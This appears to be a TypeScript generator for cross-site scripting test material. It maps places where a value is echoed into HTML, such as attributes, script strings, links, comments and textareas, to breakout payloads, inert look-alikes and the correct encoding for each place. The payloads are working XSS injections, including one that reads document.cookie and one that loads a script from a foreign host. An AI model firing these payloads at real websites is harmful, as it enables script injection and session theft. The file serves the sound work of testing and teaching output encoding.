/** Places of a document where a value may come back, payloads that break out of each, and how each is encoded rightly. */
import type { Rng } from "../../../util/rng.ts";
import { foreignHost } from "./words.ts";

export interface EchoContext {
  readonly id: string;
  /** HTML around the value. */
  readonly wrap: (value: string) => string;
  /** Breaks out and runs code. */
  readonly attack: (call: string, rng: Rng) => string;
  /** Looks like an attack and stays inert in this place even as it is; undefined where there is none. */
  readonly harmless?: (call: string, rng: Rng) => string;
  /** The right encoding for the place. */
  readonly encode: (value: string) => string;
}

export const CALLS: readonly ((rng: Rng) => string)[] = [
  (rng) => `alert(${1 + rng.int(99)})`,
  () => "alert(document.domain)",
  () => "alert(document.cookie)",
  (rng) => `confirm(${1 + rng.int(99)})`,
  () => "prompt(document.domain)",
  (rng) => `console.debug(${rng.int(999)})`,
  (rng) => `print(${rng.int(9)})`,
  (rng) => `alert\`${rng.int(99)}\``,
  () => "eval(name)",
];

export function htmlEncoded(text: string): string {
  return text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#39;");
}

/** For strings of JavaScript inside HTML: nothing that ends the string or the element is left. */
function scriptEncoded(text: string): string {
  return text.replace(/[^\w .,()-]/g, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

const MARKUP: readonly ((call: string, rng: Rng) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<a href="javascript:${call}">more</a>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<button onclick="${call}">ok</button>`,
  (_, rng) => `<script src=//${foreignHost(rng)}/a.js></script>`,
];
const markup = (call: string, rng: Rng): string => rng.pick(MARKUP)(call, rng);
const attributed =
  (quote: string) =>
  (call: string, rng: Rng): string =>
    rng.pick([
      `${quote}><script>${call}</script>`,
      `${quote} autofocus onfocus=${quote}${call}`,
      `${quote} onmouseover=${quote}${call}`,
      `${quote}><svg onload=${call}>`,
    ]);

export const CONTEXTS: readonly EchoContext[] = [
  { id: "text", wrap: (v) => `<p>You asked for <b>${v}</b></p>`, attack: markup, encode: htmlEncoded },
  { id: "cell", wrap: (v) => `<table><tr><td>${v}</td></tr></table>`, attack: markup, encode: htmlEncoded },
  {
    id: "double-quoted attribute",
    wrap: (v) => `<input name="value" value="${v}">`,
    attack: attributed('"'),
    harmless: (call, rng) =>
      rng.pick([`x onfocus=${call} autofocus`, `<img src=x onerror=${call}>`, `' onfocus='${call}`]),
    encode: htmlEncoded,
  },
  {
    id: "single-quoted attribute",
    wrap: (v) => `<span title='${v}'>your choice</span>`,
    attack: attributed("'"),
    harmless: (call, rng) =>
      rng.pick([`x onmouseover=${call}`, `<svg onload=${call}>`, `" onmouseover="${call}`]),
    encode: htmlEncoded,
  },
  {
    id: "unquoted attribute",
    wrap: (v) => `<input name=value value=${v}>`,
    attack: (call, rng) =>
      rng.pick([`x onfocus=${call} autofocus`, `x onmouseover=${call} x`, `><script>${call}</script>`]),
    encode: (v) => `"${htmlEncoded(v)}"`,
  },
  {
    id: "string of a script",
    wrap: (v) => `<script>var chosen = '${v}'; document.title = chosen;</script>`,
    attack: (call, rng) =>
      rng.pick([`';${call};//`, `'-${call}-'`, `</script><script>${call}</script>`, `'+${call}+'`]),
    harmless: (call, rng) => rng.pick([`<img src=x onerror=${call}>`, `";${call};//`, `\${${call}}`]),
    encode: scriptEncoded,
  },
  {
    id: "address of a link",
    wrap: (v) => `<p><a href="${v}">Back</a></p>`,
    attack: (call, rng) =>
      rng.pick([`javascript:${call}`, `JavaScript:${call}`, `"><script>${call}</script>`]),
    harmless: (call, rng) =>
      rng.pick([`/back?js=${call}`, `https:javascript:${call}`, `x:javascript:${call}`]),
    encode: (v) => `/leave?to=${encodeURIComponent(v).replaceAll("'", "%27")}`,
  },
  {
    id: "comment",
    wrap: (v) => `<!-- asked for: ${v} --><p>Nothing chosen.</p>`,
    attack: (call, rng) => rng.pick([`--><script>${call}</script><!--`, `--!><svg onload=${call}>`]),
    harmless: (call, rng) => rng.pick([`<script>${call}</script>`, `<img src=x onerror=${call}>`]),
    encode: htmlEncoded,
  },
  {
    id: "text area",
    wrap: (v) => `<textarea name="text">${v}</textarea>`,
    attack: (call, rng) => `</textarea>${markup(call, rng)}`,
    harmless: (call, rng) => rng.pick([`<script>${call}</script>`, `<svg onload=${call}>`]),
    encode: htmlEncoded,
  },
  {
    id: "data of a script",
    wrap: (v) => `<script type="application/json">{"chosen":"${v}"}</script>`,
    attack: (call) => `</script><script>${call}</script>`,
    harmless: (call, rng) => rng.pick([`";${call};//`, `<img src=x onerror=${call}>`]),
    encode: scriptEncoded,
  },
];
